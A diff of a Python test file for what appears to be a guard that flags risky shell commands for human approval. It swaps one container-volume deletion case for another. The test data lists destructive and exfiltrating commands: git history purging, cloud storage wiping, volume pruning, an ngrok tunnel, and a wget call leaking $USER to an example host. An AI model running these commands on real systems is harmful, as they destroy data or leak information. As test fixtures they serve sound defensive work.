@@ -766,7 +766,7 @@ def test_round10_look_alikes_that_still_need_a_human_ask(command: str) -> None:
         # history purged for good, installs from an address, volumes, storage, tunnels
         ("git reflog expire --expire=now --all && git gc --prune=now", "git-purge-history"),
         ("pip install https://files.example.net/requests-2.31.0.tar.gz", "install-from-url"),
-        ("docker-compose down -v", "container-volumes-delete"),
+        ("podman volume prune -f", "container-volumes-delete"),  # round 15: compose down -v asks
         ("gcloud storage rm -r gs://b", "cloud-storage-wipe"),
         ("ngrok http 8000", "reverse-tunnel"),
         ("wget https://x.example/?u=$USER", "exfiltration"),
